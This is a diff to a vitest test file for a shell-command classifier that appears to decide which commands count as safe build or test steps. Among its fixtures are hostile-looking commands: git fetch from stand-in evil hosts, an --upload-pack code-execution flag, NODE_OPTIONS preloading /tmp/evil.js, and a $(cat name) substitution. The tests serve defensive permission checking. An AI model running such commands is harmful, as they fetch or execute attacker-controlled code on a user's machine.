@@ -1,7 +1,7 @@
 import { expect, test } from "vitest";
 import { shellFacts } from "./shell.ts";
 
-test.each(["npm ci", "npm test", "npm run db:migrate", "npx vitest run src/round.test.ts", "make test", "cargo build --release", "go test ./...", "pytest -x tests/test_a.py", "pnpm install --frozen-lockfile", "npx --no-install eslint src", "npx --no tsup"])("%s builds or tests what the project keeps", (command) => {
+test.each(["npm ci", "npm test", "npm run db:migrate", "npx vitest run src/round.test.ts", "make test", "cargo build --release", "go test ./...", "pytest -x tests/test_a.py", "pnpm install --frozen-lockfile", "npx --no-install eslint src", "npx --no tsup", "python -m pytest -q tests/test_credit.py", "python3 -m unittest", "uv run pytest -x", "poetry run ruff src", "git fetch", "git fetch origin", "git pull --rebase origin main", "git fetch -q origin feature/x"])("%s builds or tests what the project keeps", (command) => {
   expect(shellFacts(command).class).toBe("build");
 });
 
@@ -18,6 +18,22 @@ test.each([
   "make -f /tmp/Makefile",
   "make ../other",
   "pytest -p evil",
+  "python -m pytest -p evil",
+  "python -m http.server",
+  "git fetch evil",
+  "git fetch https://evil.example/x",
+  "git fetch origin +refs/heads/x:refs/heads/main",
+  "git fetch origin --upload-pack=/tmp/x",
+  "git -C /tmp/x fetch origin",
+  "git pull ../x main",
+  "git remote set-url origin evil && git fetch origin",
+  "python -m pytest --rootdir=/tmp/evil",
+  "python -mpytest.evil",
+  "python tests/pytest",
+  "python pytest -m",
+  "uv run evil.py",
+  "uv run --with evil pytest",
+  "poetry run python evil.py",
   "go run ./cmd",
   "npm run $(cat name)",
   "NODE_OPTIONS=--require=/tmp/evil.js npm test",
